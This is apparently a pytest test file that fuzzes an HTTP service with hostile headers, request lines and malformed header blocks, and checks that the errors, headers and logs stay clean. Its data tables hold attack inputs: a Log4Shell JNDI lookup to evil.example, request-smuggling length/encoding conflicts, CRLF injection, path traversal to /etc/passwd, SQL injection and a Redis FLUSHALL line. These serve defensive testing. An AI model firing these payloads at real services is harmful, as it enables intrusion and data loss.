"""Hostile headers, a table: each is answered in our own words, never with 500; none gets into a head or a log line."""

import json
import re
import socket
from collections.abc import Mapping
from uuid import uuid4

import pytest
from http_service import Service
from payers import Payer

#: Seconds for an answer.
PATIENCE = 60
#: Seconds after an answer in which another one would come.
SILENCE = 0.2
#: What an injected header or line would be called.
EVIL = "X-Evil"
LINE = '{"event":"injected","level":"critical"}'

#: By header: values as they go through the socket, one character a byte. {key} is a right key.
VALUES: Mapping[str, list[str]] = {
    "Host": [
        "evil.example", "", "a b", "a\tb", "evil.example:99999", "evil.example:x", "user@evil.example", "[::1",
        "[::1%lo]", "evil.example/..%2f", "evil.example\\@x", "-", ".", "a" * 300, "a" * 8_000, "\xe9vil.example",
        "127.0.0.1, evil", '"><script>', "localhost:80:80", "%00", "x;y", "xn--", "\x7f",
    ],
    "X-Forwarded-For": [
        "127.0.0.1", "evil", "::1, 10.0.0.1", "," * 4_000, "1" * 8_000, "127.0.0.1\xa0", "[::1]:80", "-",
    ],
    "X-Forwarded-Host": ["evil.example", "a b", "", "evil.example, evil.example", "a" * 8_000],
    "X-Forwarded-Proto": ["gopher", "https, http", "javascript:", ""],
    "X-Forwarded-Port": ["0", "99999", "-1", "x"],
    "X-Forwarded-Prefix": ["//evil.example", "/../..", "javascript:"],
    "X-Real-IP": ["127.0.0.1", "x" * 8_000],
    "X-Original-URL": ["/metrics", "http://evil.example/"],
    "X-Rewrite-URL": ["/metrics"],
    "X-HTTP-Method-Override": ["DELETE", "TRACE"],
    "Forwarded": ["for=127.0.0.1;host=evil.example;proto=gopher", "for=" + '"' * 4_000, ";;;,,,"],
    "Idempotency-Key": [
        "", " ", "x" * 256, "x" * 8_000, "\xe9", "a\tb", "a\x7fb", "{key}", "'; DROP TABLE job; --", "\\", '"',
    ],
    "X-Request-Id": [
        "x" * 8_000, "a b", "\xe9", "{key}", "\x7f", "../../etc", "%0d%0aX-Evil: 1", LINE, "'--", "\x1b[2J", "a\tb",
    ],
    "Cookie": [
        "pressroom_session=x", "__Host-pressroom_session=" + "x" * 7_000, "=;=;=", ";" * 8_000, "a", "\xff=\xff",
        "pressroom_session=x; pressroom_session=y", 'pressroom_session="\\r\\nX-Evil: 1"', "$Version=1; a=b", "a=b\tc",
    ],
    "Range": [
        "bytes=", "bytes=-", "bytes=--1", "bytes=1-0", "bytes=99999999999999999999999999-",
        "bytes=-99999999999999999999999", "bytes=0-0" + ",0-0" * 1_500, "lines=0-1", "bytes=0x1-", "bytes=\xb2-",
        "bytes= 0 - 1", "bytes=0-1, evil", "BYTES=0-",
    ],
    "If-Range": ['"x', "W/", "Thu, 99 Foo", '"' + "x" * 7_000],
    "If-None-Match": ["*", '"', ",".join(['"x"'] * 1_500), 'W/"' + "x" * 7_000],
    "If-Modified-Since": ["Thu, 01 Jan 99999 00:00:00 GMT", "-1", "x" * 7_000],
    "Accept": [
        "*/*;q=NaN", "*/*;q=1e999", ",".join(["a/b;q=0.1"] * 700), "text/html", "", ";;;", "\xff/\xff",
        "application/json;q=-1",
    ],
    "Accept-Encoding": ["gzip;q=1e999", "gzip;q=NaN", "gzip;q=-0", "*;q=0", ",".join(["x"] * 3_000), "\xff", ";q=1"],
    "Accept-Language": ["x" * 7_000, "*-*-*", "\xff"],
    "Prefer": [
        "wait=-1", "wait=1e400", "wait=nan", "wait=inf", "wait=" + "9" * 400, "wait=0x10", "wait=\xb2", "wait=1_0",
        "wait=", "wait=;;;", "respond-async, respond-async", ",".join(["wait=0"] * 1_000), '"', "wait=0;" * 1_000,
        "wait=+0", "wait= 0",
    ],
    "Content-Type": [
        "x" * 7_000, "application/json; charset=\xff", "multipart/form-data", "multipart/form-data; boundary=", ";;;",
        "a/b/c", "application/json; charset=utf-7",
    ],
    "Content-Encoding": ["zip", "br", "gzip, gzip", "\xff"],
    "Authorization": [
        "Bearer", "Bearer ", "Basic eDp5", "Bearer a b", "bearer {key}x", "Digest " + "x" * 7_000, "\xff\xfe",
        "Bearer {key}, Bearer {key}",
    ],
    "X-API-Key": ["", " ", "x" * 8_000, "\xff", "{key}x", "pr_live_", "{key} {key}", "pr_live_" + "0" * 38],
    "Origin": ["null", "https://evil.example", "javascript:alert(1)", "x" * 7_000],
    "Referer": ["https://evil.example/" + LINE, "\xff"],
    "User-Agent": [LINE, "\x1b[2J\x1b]0;evil\x07", "x" * 8_000, "${jndi:ldap://evil.example/a}", "%n%n%n%s"],
    "traceparent": [
        "00-" + "0" * 32 + "-" + "0" * 16 + "-00", "ff-x", "x" * 7_000, "00-" + "f" * 32 + "-" + "f" * 16 + "-ff-evil",
    ],
    "tracestate": ["=" * 7_000, ",".join(["a=b"] * 500)],
    "Expect": ["200-evil", "100-continue, evil", "x" * 7_000],
    "Connection": ["X-API-Key, close", "upgrade", "x" * 7_000, "keep-alive, close"],
    "Upgrade": ["h2c", "websocket", "TLS/1.0"],
    "TE": ["trailers, deflate;q=0.5", "x" * 7_000],
    "Trailer": ["X-API-Key", "Content-Length"],
    "Via": ["1.1 " + "x" * 7_000],
    "Max-Forwards": ["-1"],
    "Access-Control-Request-Method": ["EVIL\tX", "TRACE"],
    "Webhook-Id": ["x" * 7_000],
}  # fmt: skip

#: What may come back; all else is our fault.
CLIENTS_FAULT = {400, 401, 403, 404, 405, 406, 408, 411, 413, 414, 415, 416, 417, 421, 422, 429, 431, 501, 505}


@pytest.mark.parametrize("name", VALUES)
def test_a_hostile_header_is_answered_by_its_own_request_alone(service: Service, client: Payer, name: str) -> None:
    for value in VALUES[name]:
        value = value.replace("{key}", client.api_key)
        # A preference that is passed over is not one for a job at once.
        value = f"respond-async, {value}" if name == "Prefer" else value
        for method, path, body in (("GET", "/jobs?limit=1", ""), ("POST", "/echo", '{"text": "hi"}')):
            head = {"Host": "press.example", "X-API-Key": client.api_key, "Prefer": "respond-async"}
            head |= {"Content-Type": "application/json"} if body else {}
            answer = exchanged(service, method, path, {**head, name: value}, body)
            check(answer, f"{method} with {name}: {value[:80]!a}")


#: Heads whose lines are not what they seem; {key} is a right key, and each is to be read as one request, or refused.
HEADS = {
    "CR LF and another header": "X-Request-Id: a\r\nX-Evil: 1",
    "a bare LF": "X-Request-Id: a\nX-Evil: 1",
    "a bare CR": "X-Request-Id: a\rX-Evil: 1",
    "a folded line": "X-Request-Id: a\r\n X-Evil: 1",
    "NUL": "X-Request-Id: a\0X-Evil: 1",
    "CR LF CR LF, as if it were the end": f"X-Request-Id: a\r\n\r\n{LINE}",
    "no colon": "X-Evil 1",
    "a space before the colon": "X-Request-Id : evil",
    "no name": ": evil",
    "a name of other letters": "X-R\xe9quest-Id: evil",
    "a name of 8 kB": f"{'x' * 8_000}: 1",
    "10 kB in a line": f"X-Request-Id: {'x' * 10_000}",
    "1,000 headers": "\r\n".join(f"X-Evil-{number}: 1" for number in range(1_000)),
    "two hosts": "Host: evil.example",
    "two keys": "X-API-Key: nobody",
    "two names of the request": "X-Request-Id: one\r\nX-Request-Id: two",
    "two names of the job": "Idempotency-Key: one\r\nIdempotency-Key: two",
    "two lengths": "Content-Length: 3\r\nContent-Length: 14",
    "a length with a sign": "Content-Length: +14",
    "a length of 5,000 digits": f"Content-Length: {'1' * 5_000}",
    "a negative length": "Content-Length: -1",
    "lengths in a list": "Content-Length: 14, 14",
    "a length in hex": "Content-Length: 0xe",
    "a length in other digits": "Content-Length: \xb2",
    "chunks and a length": "Transfer-Encoding: chunked\r\nContent-Length: 14",
    "an encoding of chunks nobody knows": "Transfer-Encoding: evil",
    "chunks twice": "Transfer-Encoding: chunked, chunked",
    "chunks misspelt": "Transfer-Encoding: xchunked",
    "chunks by a name with a space": "Transfer-Encoding : chunked",
}


@pytest.mark.parametrize("name", HEADS)
def test_a_head_that_is_not_what_it_seems_makes_one_answer(service: Service, client: Payer, name: str) -> None:
    first = f"POST /echo HTTP/1.1\r\nHost: press.example\r\nX-API-Key: {client.api_key}\r\nPrefer: respond-async\r\n"
    body = '{"text": "hi"}'
    length = "" if "length" in name or "chunks" in name else f"Content-Length: {len(body)}\r\n"
    sent = f"{first}Content-Type: application/json\r\n{length}{HEADS[name]}\r\nConnection: close\r\n\r\n{body}"
    answer = raw(service, sent.encode("latin-1"))
    check(answer, name)
    assert answer.count(b"HTTP/1.1 ") <= (1 if "as if" not in name else 2)


#: Request lines and targets.
LINES = {
    "an absolute target of another host": "GET http://evil.example/jobs HTTP/1.1",
    "an absolute target with a name and a password": "GET http://a:b@press.example/jobs HTTP/1.1",
    "another scheme": "GET file:///etc/passwd HTTP/1.1",
    "a target with CR LF, encoded": "GET /jobs%0d%0aX-Evil:1 HTTP/1.1",
    "a target with a log line": "GET /%7B%22event%22:%22injected%22%7D%0a HTTP/1.1",
    "a target that leads up": "GET /../../etc/passwd HTTP/1.1",
    "a target that leads up, encoded twice": "GET /files/%252e%252e/%252e%252e/etc HTTP/1.1",
    "backslashes": "GET \\..\\..\\etc HTTP/1.1",
    "NUL": "GET /jobs%00.png HTTP/1.1",
    "bad percent signs": "GET /%zz%f HTTP/1.1",
    "not UTF-8": "GET /%ff%fe%c0%af HTTP/1.1",
    "bytes above ASCII": "GET /\xff\xfe HTTP/1.1",
    "terminal codes": "GET /%1b[2J%1b]0;evil%07 HTTP/1.1",
    "10 kB": f"GET /{'x' * 10_000} HTTP/1.1",
    "a query of 10,000 fields": f"GET /jobs?{'a=1&' * 1_900} HTTP/1.1",
    "an authority": "CONNECT evil.example:443 HTTP/1.1",
    "an asterisk": "OPTIONS * HTTP/1.1",
    "TRACE": "TRACE /jobs HTTP/1.1",
    "a method with CR": "GE\rT /jobs HTTP/1.1",
    "a method of 8 kB": f"{'X' * 8_000} /jobs HTTP/1.1",
    "a method in small letters": "get /jobs HTTP/1.1",
    "no version": "GET /jobs",
    "another version": "GET /jobs HTTP/9.9",
    "HTTP/2's preface": "PRI * HTTP/2.0",
    "two spaces": "GET  /jobs  HTTP/1.1",
    "a tab": "GET\t/jobs\tHTTP/1.1",
    "a TLS greeting": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "a Redis command": "*1\r\n$8\r\nFLUSHALL",
}  # fmt: skip


@pytest.mark.parametrize("name", LINES)
def test_a_hostile_request_line_is_refused_in_our_words(service: Service, client: Payer, name: str) -> None:
    sent = f"{LINES[name]}\r\nHost: press.example\r\nX-API-Key: {client.api_key}\r\nConnection: close\r\n\r\n"
    check(raw(service, sent.encode("latin-1")), name)


def test_the_log_of_all_this_has_one_json_object_a_line_and_none_of_it_injected(
    service: Service, client: Payer
) -> None:
    mark = uuid4().hex
    for number, value in enumerate((LINE, "\x1b[2J", "a\rb", "é")):
        exchanged(
            service, "GET", f"/nowhere/{mark}/{number}", {"Host": "x", "User-Agent": value, "X-Request-Id": value}, ""
        )
    service.wait_for_line(path=f"/nowhere/{mark}/3")

    text = service.log.read_text(errors="surrogateescape")
    assert "\x1b" not in text
    assert client.api_key not in text
    events = [json.loads(line) for line in text.splitlines() if line.startswith("{")]
    assert not [event for event in events if event["event"] == "injected"]
    # What gunicorn writes by itself has a time before it, and nothing of a request.
    others = [line for line in text.splitlines() if line.strip() and not line.startswith("{")]
    assert all(re.match(r"\[\d{4}-", line) for line in others), others[:3]


def exchanged(service: Service, method: str, path: str, headers: Mapping[str, str], body: str) -> bytes:
    """Send a request with headers as they are; returns all that comes."""
    lines = [f"{method} {path} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
    lines += [f"Content-Length: {len(body)}"] if body else []
    lines += [] if "Connection" in headers else ["Connection: close"]
    return raw(service, "\r\n".join([*lines, "", body]).encode("latin-1"))


def raw(service: Service, sent: bytes) -> bytes:
    """Send bytes, and return all that comes until the server closes, or has sent one answer and is silent."""
    with socket.create_connection(("127.0.0.1", service.port), timeout=PATIENCE) as connection:
        received = b""
        try:
            connection.sendall(sent)
            while piece := connection.recv(65_536):
                received += piece
                connection.settimeout(SILENCE if is_whole(received) else PATIENCE)
        except TimeoutError:
            pass
        except (ConnectionResetError, BrokenPipeError):
            pass
    return received


def is_whole(received: bytes) -> bool:
    """Return whether an answer stands there with as many bytes as it says."""
    head, end, body = received.partition(b"\r\n\r\n")
    length = re.search(rb"content-length: (\d+)", head, re.IGNORECASE)
    return bool(end and length and len(body) >= int(length[1]))


def check(answer: bytes, case: str) -> None:
    """Look whether an answer is one, in our words, and carries nothing of what was to be injected."""
    head, _, body = answer.partition(b"\r\n\r\n")
    first, *lines = head.decode("latin-1").split("\r\n")
    assert first.startswith("HTTP/1.1 "), f"{case}: {answer[:200]!a}"
    status = int(first.split()[1])
    assert status in CLIENTS_FAULT or 200 <= status < 400, f"{case}: {answer[:300]!a}"
    assert all(":" in line and line.isprintable() for line in lines), f"{case}: {lines}"
    names = [line.partition(":")[0].lower() for line in lines]
    assert EVIL.lower() not in names, case
    assert len(names) == len(set(names)) or names.count("set-cookie") + names.count("vary") > 1, f"{case}: {names}"
    assert "evil.example" not in head.decode("latin-1"), case
    assert "access-control-allow-origin" not in names, case
    if status >= 400 and body:
        assert "application/json" in head.decode("latin-1"), f"{case}: {answer[:300]!a}"
        told = json.loads(body.partition(b"HTTP/1.1 ")[0])
        assert {"error", "code", "message"} <= told.keys(), f"{case}: {body[:300]!a}"
